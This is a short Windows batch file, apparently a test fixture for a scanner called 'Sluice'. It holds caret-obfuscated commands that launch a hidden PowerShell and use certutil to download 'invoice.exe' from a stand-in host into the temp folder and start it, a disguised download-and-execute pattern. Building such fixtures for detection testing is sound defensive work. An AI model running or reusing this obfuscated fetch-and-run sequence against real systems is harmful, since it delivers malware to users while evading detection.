@echo off
rem Sluice test fixture - harmless, never run
set x=powershell
p^o^w^e^r^s^h^e^l^l -n^o^p -w h^i^d^d^e^n -c "echo hello"
c^e^r^t^u^t^i^l -urlcache -split -f http://example.invalid/invoice.exe %TEMP%\invoice.exe
start invoice.exe
